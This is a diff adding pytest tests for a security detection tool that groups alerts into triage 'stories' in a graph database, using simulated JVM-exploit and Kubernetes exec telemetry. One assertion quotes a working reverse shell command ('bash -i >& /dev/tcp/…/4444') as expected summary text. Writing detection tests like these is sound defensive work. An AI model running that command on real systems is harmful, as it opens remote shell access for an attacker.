@@ -1,0 +1,157 @@
+"""Stories: one per correlation key with signals; triage with history; merging on re-key."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from app.cli import main
+from app.ingest import ingest
+from app.neo4j.database import Database
+from app.pipeline import Pipeline
+from app.rules.stories import progression, record, score, story_id
+from tests.graphstate import rows
+from tests.test_layers import container_with_shell, jvm_exploit
+
+NO_RULES = Pipeline(rules=())
+BASE_FIELDS = ("ts", "source", "host", "container", "pod", "process", "parent", "ancestors")
+STORY = "MATCH (s:Story) RETURN s.id, s.title, s.summary, s.score, s.severity, s.first_seen"
+
+
+def load(db: Database, events: list[dict[str, Any]], fmt: str = "storyline") -> None:
+    report = ingest(db, fmt, [json.dumps(e) + "\n" for e in events], after_batch=NO_RULES)
+    assert report.rejected == []
+
+
+def alert(on: dict[str, Any], rule: str, severity: str, tactic: str, **extra: Any) -> dict:
+    return {
+        **{k: v for k, v in on.items() if k in BASE_FIELDS},
+        "id": f"alert-{rule}-{on['id']}",
+        "kind": "alert",
+        "alert": {"rule_id": rule, "title": rule.replace("_", " "), "severity": severity,
+                  "tactic": tactic, "on_event": on["id"], **extra},
+    }  # fmt: skip
+
+
+def test_one_story_per_key_with_signals(db: Database) -> None:
+    events, key_of, compromise = jvm_exploit()
+    connect, ident = events[4], events[3]
+    load(db, [*events, compromise,
+              alert(connect, "reverse_shell", "critical", "command_and_control"),
+              alert(ident, "account_discovery", "low", "discovery")])  # fmt: skip
+    exploit_key = key_of[4000]
+    assert rows(db, "MATCH (s:Story) RETURN s.id, s.correlation_key, s.layer, s.severity") == {
+        (story_id(exploit_key), exploit_key, "exploit", "critical")
+    }
+    assert rows(db, "MATCH (:Story)-[:HAS]->(s:Signal) RETURN s.rule_id") == {
+        ("sensor.shell_from_jvm",),
+        ("reverse_shell",),
+        ("account_discovery",),
+    }
+    [(title, summary, status, tactics)] = rows(
+        db, "MATCH (s:Story) RETURN s.title, s.summary, s.status, s.tactics"
+    )
+    assert title == "reverse shell on node-3 (+2 more rules)"
+    assert status == "open"
+    assert tactics == ("execution", "discovery", "command_and_control")
+    assert "3 signals from 3 rules (execution → discovery → command and control)" in summary
+    assert "rooted at `sh -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`" in summary
+    assert rows(db, "MATCH (s:Story)-[:OF]->(c:Context) RETURN c.key") == {(exploit_key,)}
+
+
+def test_reingesting_changes_no_story(db: Database) -> None:
+    events, _, compromise = jvm_exploit()
+    load(db, [*events, compromise])
+    before = rows(db, STORY)
+    load(db, [*events, compromise])
+    assert rows(db, STORY) == before
+
+
+def test_triage_is_recorded_and_archiving_is_reversible(db: Database) -> None:
+    events, key_of, compromise = jvm_exploit()
+    load(db, [*events, compromise])
+    sid = story_id(key_of[4000])
+    record(db, sid, "status", "under_review", "alice", "looking")
+    record(db, sid, "assignee", "alice", "alice")
+    record(db, sid, "note", "the JVM is log4j 2.14", "alice")
+    record(db, sid, "status", "archived", "bob", "false positive?")
+    record(db, sid, "status", "open", "alice", "no: real")
+    assert rows(db, "MATCH (s:Story {id: $id}) RETURN s.status, s.assignee", id=sid) == {
+        ("open", "alice")
+    }
+    history = rows(
+        db,
+        "MATCH (:Story {id: $id})-[:TRIAGE]->(t) RETURN t.actor, t.field, t.from, t.to, t.comment",
+        id=sid,
+    )
+    assert history == {
+        ("alice", "status", "open", "under_review", "looking"),
+        ("alice", "assignee", None, "alice", None),
+        ("alice", "note", None, "the JVM is log4j 2.14", None),
+        ("bob", "status", "under_review", "archived", "false positive?"),
+        ("alice", "status", "archived", "open", "no: real"),
+    }
+
+
+def test_a_story_follows_its_events_when_late_evidence_re_keys_them(db: Database) -> None:
+    events, key_of, sh = container_with_shell()
+    ls = events[5]
+    load(db, [*events, alert(ls, "k8s_exec_shell", "medium", "execution")])
+    shell_story = story_id(key_of[2101])
+    record(db, shell_story, "status", "under_review", "alice", "who is this?")
+    audit = {
+        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "77",
+        "stage": "ResponseStarted", "verb": "create", "user": {"username": "mallory@example.com"},
+        "requestURI": "/api/v1/namespaces/shop/pods/web-7d9f-abc/exec?command=sh&container=web",
+        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop",
+                      "name": "web-7d9f-abc"},
+        "responseStatus": {"code": 101}, "stageTimestamp": "2026-01-05T08:00:50.200000Z",
+    }  # fmt: skip
+    load(db, [audit], fmt="k8s-audit")
+    from tests.test_layers import uuid
+
+    k8s_story = story_id(uuid(sh, "k8s_user_session"))
+    assert rows(db, "MATCH (s:Story) RETURN s.id, s.status, s.merged_from") == {
+        (k8s_story, "under_review", (shell_story,))
+    }
+    history = rows(db, "MATCH (:Story)-[:TRIAGE]->(t) RETURN t.field, t.to, t.actor")
+    assert history == {("status", "under_review", "alice"), ("merge", k8s_story, "storyline")}
+
+
+def test_scores_rank_a_kill_chain_above_noise() -> None:
+    def sig(rule: str, severity: str, tactic: str) -> dict[str, str]:
+        return {"rule_id": rule, "severity": severity, "tactic": tactic}
+
+    attack = [
+        sig("a", "high", "execution"),
+        sig("b", "medium", "persistence"),
+        sig("c", "high", "credential_access"),
+        sig("d", "critical", "exfiltration"),
+    ]
+    noise = [sig("x", "low", "execution")] * 30
+    assert score(attack, "exploit") > score(noise, "service")
+    assert progression(["execution", "persistence", "discovery", "execution"]) == 3
+    assert progression(["impact", "execution"]) == 1
+
+
+def test_stories_and_story_commands(
+    db: Database, neo4j_env: dict[str, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    events, key_of, compromise = jvm_exploit()
+    load(
+        db,
+        [*events, compromise, alert(events[4], "reverse_shell", "critical", "command_and_control")],
+    )
+    sid = story_id(key_of[4000])
+    assert main(["stories"]) == 0
+    out = capsys.readouterr().out.splitlines()
+    assert [c.strip() for c in out[0].split(" | ")][:4] == ["id", "severity", "status", "score"]
+    assert out[2].startswith(sid[:8]) and "critical" in out[2] and "node-3" in out[2]
+    assert main(["story", sid[:8]]) == 0
+    text = capsys.readouterr().out
+    assert "reverse shell on node-3 (+1 more rule)" in text
+    assert "signals:" in text and "sensor.shell_from_jvm" in text
+    assert "events (first 6):" in text and "<- reverse_shell" in text
+    assert main(["story", "nope"]) == 1
